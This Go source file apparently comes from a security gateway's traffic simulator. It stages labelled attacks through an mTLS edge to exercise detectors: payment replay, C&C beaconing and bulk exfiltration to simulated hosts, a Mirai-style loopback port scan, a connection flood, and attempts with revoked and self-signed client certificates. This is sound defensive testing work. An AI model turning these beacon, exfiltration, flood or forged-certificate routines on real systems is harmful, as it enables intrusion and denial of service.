package sim

import (
	"bufio"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"errors"
	"fmt"
	"io"
	"math/big"
	mrand "math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"sync"
	"time"

	"github.com/halo-sec/halo/identity"
	"github.com/halo-sec/halo/replay"
)

func (s *Sim) plannedAttacks() []Attack { return s.cfg.Attacks }

// attackDevice is the 1-based index of the device attack i runs on: the
// named one, else a seeded choice, different for each attack while the
// fleet allows.
func (s *Sim) attackDevice(i int, a Attack) int {
	if a.Device != "" {
		n, _ := s.cfg.deviceIndex(a.Device)
		return n
	}
	perm := mrand.New(mrand.NewPCG(s.cfg.Seed, 0xa77ac)).Perm(s.cfg.Devices)
	return perm[i%len(perm)] + 1
}

func (s *Sim) scheduleAttacks(ctx context.Context, wg *sync.WaitGroup) {
	for i, a := range s.cfg.Attacks {
		d := s.devices[s.attackDevice(i, a)-1]
		wg.Go(func() {
			if !waitCtx(ctx, a.At) {
				return
			}
			s.log.Info("attack", "attack", a.Kind, "device_id", d.id)
			var err error
			switch a.Kind {
			case AttackReplay:
				err = s.replayAttack(ctx, d)
			case AttackBeacon:
				err = s.beacon(ctx, d)
			case AttackExfil:
				err = s.exfil(ctx, d)
			case AttackScan:
				err = s.scan(ctx, d)
			case AttackFlood:
				err = s.flood(ctx, d)
			case AttackBadCert:
				err = s.badcert(ctx, d)
			}
			if err != nil && ctx.Err() == nil {
				s.log.Warn("attack incomplete", "attack", a.Kind, "device_id", d.id, "error", err)
			}
		})
	}
}

func (s *Sim) label(d *device, kind string, start, end time.Time) {
	s.addLabel(replay.Label{Tenant: s.cfg.Tenant, Device: d.id, Label: kind, Start: start.UTC(), End: end.UTC()})
}

// replayAttack resends a payment the gateway approved, byte for byte, from
// the device that made it and from another device of the fleet.
func (s *Sim) replayAttack(ctx context.Context, d *device) error {
	body := d.lastPaid()
	for _, o := range s.devices { // any recorded payment will do
		if body != nil {
			break
		}
		body = o.lastPaid()
	}
	rng := mrand.New(mrand.NewPCG(s.cfg.Seed, uint64(d.idx)<<8|0x9a)) // not the device's: its loop runs meanwhile
	for tries := 0; body == nil && tries < 10; tries++ {              // nothing recorded yet: make one
		if status, _ := d.send(ctx, d.newPayment(rng), 0); status == http.StatusOK {
			body = d.lastPaid()
		}
	}
	if body == nil {
		return errNoPayment
	}
	other := s.devices[d.idx%len(s.devices)]
	for _, dev := range []*device{d, other} {
		start := time.Now()
		status, haloErr := dev.send(ctx, body, 0)
		s.label(dev, AttackReplay, start, time.Now())
		s.log.Debug("replayed a payment", "device_id", dev.id, "status", status, "edge_error", haloErr)
		if dev == other {
			break
		}
	}
	s.stats.attacks.Add(1)
	return nil
}

// edgeConn is a device's own mTLS connection to the edge, for CONNECT.
type edgeConn struct {
	net.Conn
	r *bufio.Reader
}

func (c *edgeConn) Read(p []byte) (int, error) { return c.r.Read(p) }

func (s *Sim) dialEdge(ctx context.Context, cert tls.Certificate) (*edgeConn, error) {
	dl := tls.Dialer{NetDialer: &net.Dialer{Timeout: 10 * time.Second}, Config: &tls.Config{
		Certificates: []tls.Certificate{cert}, RootCAs: s.pool, ServerName: s.cfg.EdgeServerName, MinVersion: tls.VersionTLS12,
	}}
	c, err := dl.DialContext(ctx, "tcp", s.cfg.Edge)
	if err != nil {
		return nil, err
	}
	return &edgeConn{Conn: c, r: bufio.NewReader(c)}, nil
}

// errRefused is a CONNECT the edge answered with another status than 200.
type errRefused struct {
	status int
	code   string
}

func (e *errRefused) Error() string { return fmt.Sprintf("CONNECT answered %d %s", e.status, e.code) }

// connect asks the edge for a tunnel to target on c. On a refusal, c stays
// usable unless the edge closes it (reusable says).
func connect(c *edgeConn, target string) (reusable bool, err error) {
	c.SetDeadline(time.Now().Add(15 * time.Second))
	defer c.SetDeadline(time.Time{})
	if _, err := fmt.Fprintf(c, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", target, target); err != nil {
		return false, err
	}
	resp, err := http.ReadResponse(c.r, &http.Request{Method: http.MethodConnect})
	if err != nil {
		return false, err
	}
	if resp.StatusCode == http.StatusOK {
		return true, nil
	}
	io.Copy(io.Discard, io.LimitReader(resp.Body, 64<<10))
	resp.Body.Close()
	return !resp.Close, &errRefused{resp.StatusCode, resp.Header.Get("Halo-Error")}
}

// tunnelTo opens a fresh edge connection and a tunnel to target.
func (s *Sim) tunnelTo(ctx context.Context, d *device, target string) (*edgeConn, error) {
	s.stats.requests.Add(1)
	c, err := s.dialEdge(ctx, d.cert)
	if err != nil {
		s.stats.errors.Add(1)
		return nil, err
	}
	if _, err := connect(c, target); err != nil {
		c.Close()
		if r, ok := err.(*errRefused); ok {
			s.stats.refuse(r.code)
		} else {
			s.stats.errors.Add(1)
		}
		return nil, err
	}
	s.stats.answered.Add(1)
	return c, nil
}

// beacon checks in with a C&C host at a fixed interval.
func (s *Sim) beacon(ctx context.Context, d *device) error {
	target := s.dst.host("c2-"+strconv.Itoa(d.idx), s.dst.c2Port)
	start := time.Now()
	var last time.Time
	ok := 0
	for i := range s.cfg.BeaconCount {
		if i > 0 && !waitCtx(ctx, time.Until(start.Add(time.Duration(i)*s.cfg.BeaconInterval))) {
			break
		}
		last = time.Now()
		c, err := s.tunnelTo(ctx, d, target)
		if err != nil {
			continue // blocked or quarantined: the malware keeps trying
		}
		ok++
		c.SetDeadline(time.Now().Add(10 * time.Second))
		fmt.Fprintf(c, `{"bot":"%s","seq":%d,"status":"idle"}`+"\n", d.id, i)
		io.Copy(io.Discard, io.LimitReader(c, 4096))
		c.Close()
	}
	if last.IsZero() {
		return ctx.Err()
	}
	s.label(d, AttackBeacon, start, last)
	s.stats.attacks.Add(1)
	if ok == 0 {
		return errors.New("no check-in got through")
	}
	return nil
}

// exfil uploads a large blob to a drop host in one connection.
func (s *Sim) exfil(ctx context.Context, d *device) error {
	start := time.Now()
	c, err := s.tunnelTo(ctx, d, s.dst.host("drop-"+strconv.Itoa(d.idx), s.dst.dropPort))
	if err != nil {
		s.label(d, AttackExfil, start, time.Now())
		return err
	}
	buf := make([]byte, 64<<10)
	rand.Read(buf)
	c.SetDeadline(time.Now().Add(2 * time.Minute))
	for left := s.cfg.ExfilBytes; left > 0 && ctx.Err() == nil; {
		n := int(min(left, int64(len(buf))))
		if _, err = c.Write(buf[:n]); err != nil {
			break
		}
		left -= int64(n)
	}
	if tc, ok := c.Conn.(*tls.Conn); ok {
		tc.CloseWrite()
	}
	io.Copy(io.Discard, c)
	c.Close()
	s.label(d, AttackExfil, start, time.Now())
	s.stats.attacks.Add(1)
	return err
}

// scan probes many loopback addresses and ports (Mirai-like: telnet and
// friends); nothing listens there, so almost every attempt is refused.
func (s *Sim) scan(ctx context.Context, d *device) error {
	ports := []int{23, 2323, 22, 80, 8080, 5555, 7547, 37215}
	rng := mrand.New(mrand.NewPCG(s.cfg.Seed, uint64(d.idx)<<8|0x5c))
	targets := map[string]struct{}{}
	var list []string
	for len(list) < s.cfg.ScanTargets {
		t := net.JoinHostPort(fmt.Sprintf("127.%d.%d.%d", 100+rng.IntN(100), rng.IntN(256), 1+rng.IntN(254)), strconv.Itoa(ports[rng.IntN(len(ports))]))
		if _, dup := targets[t]; !dup {
			targets[t] = struct{}{}
			list = append(list, t)
		}
	}
	start := time.Now()
	work := make(chan string)
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			var c *edgeConn
			defer func() {
				if c != nil {
					c.Close()
				}
			}()
			for t := range work {
				s.stats.requests.Add(1)
				if c == nil {
					var err error
					if c, err = s.dialEdge(ctx, d.cert); err != nil {
						s.stats.errors.Add(1)
						continue
					}
				}
				reusable, err := connect(c, t)
				if err == nil { // something answered: close the tunnel
					s.stats.answered.Add(1)
					c.Close()
					c = nil
					continue
				}
				if r, ok := err.(*errRefused); ok {
					s.stats.refuse(r.code)
				} else {
					s.stats.errors.Add(1)
				}
				if !reusable {
					c.Close()
					c = nil
				}
			}
		})
	}
	for _, t := range list {
		select {
		case work <- t:
		case <-ctx.Done():
		}
		if ctx.Err() != nil {
			break
		}
	}
	close(work)
	wg.Wait()
	s.label(d, AttackScan, start, time.Now())
	s.stats.attacks.Add(1)
	return ctx.Err()
}

// flood opens many short connections to one victim in a burst.
func (s *Sim) flood(ctx context.Context, d *device) error {
	target := s.dst.host("victim", s.dst.victimPort)
	start := time.Now()
	work := make(chan struct{})
	var wg sync.WaitGroup
	junk := make([]byte, 512)
	for range 16 {
		wg.Go(func() {
			for range work {
				c, err := s.tunnelTo(ctx, d, target)
				if err != nil {
					continue
				}
				c.SetDeadline(time.Now().Add(5 * time.Second))
				c.Write(junk)
				c.Close()
			}
		})
	}
	for range s.cfg.FloodConns {
		select {
		case work <- struct{}{}:
		case <-ctx.Done():
		}
		if ctx.Err() != nil {
			break
		}
	}
	close(work)
	wg.Wait()
	s.label(d, AttackFlood, start, time.Now())
	s.stats.attacks.Add(1)
	return ctx.Err()
}

// badcert: a clone of the device tries the edge with its revoked
// certificate, then with one from a foreign CA.
func (s *Sim) badcert(ctx context.Context, d *device) error {
	if d.oldCert == nil {
		return errors.New("no revoked certificate prepared for this device")
	}
	foreign, err := foreignCert(s.cfg.Tenant, d.id)
	if err != nil {
		return err
	}
	start := time.Now()
	try := func(cert tls.Certificate) {
		s.stats.requests.Add(1)
		c, err := s.dialEdge(ctx, cert)
		if err != nil {
			s.stats.refuse("tls")
			return
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(5 * time.Second))
		// TLS 1.3: the edge's verdict on the certificate arrives after the
		// client's handshake, on the first read.
		fmt.Fprintf(c, "GET http://%s/v1/heartbeat HTTP/1.1\r\nHost: x\r\n\r\n", s.dst.host("mgmt", s.dst.mgmtPort))
		resp, err := http.ReadResponse(c.r, nil)
		if err != nil {
			s.stats.refuse("tls") // the edge's verdict on the certificate
			return
		}
		if code := resp.Header.Get("Halo-Error"); code != "" || resp.StatusCode >= 400 {
			resp.Body.Close()
			s.stats.refuse(code)
			return
		}
		resp.Body.Close()
		s.stats.answered.Add(1)
	}
	// Ten revoked handshakes in a quick burst: wherever a window boundary
	// cuts it, one side has the auth-failures detector's 5.
	for i := range 12 {
		if i > 0 && !waitCtx(ctx, 20*time.Millisecond) {
			break
		}
		if i < 10 {
			try(*d.oldCert)
		} else {
			try(foreign)
		}
	}
	s.label(d, AttackBadCert, start, time.Now())
	s.stats.attacks.Add(1)
	return nil
}

// foreignCert is a client certificate naming the device, from a CA the
// edge does not trust.
func foreignCert(tenant, dev string) (tls.Certificate, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return tls.Certificate{}, err
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: dev, Organization: []string{tenant}},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth},
		URIs: []*url.URL{identity.DeviceURI(tenant, dev)},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		return tls.Certificate{}, err
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, nil
}
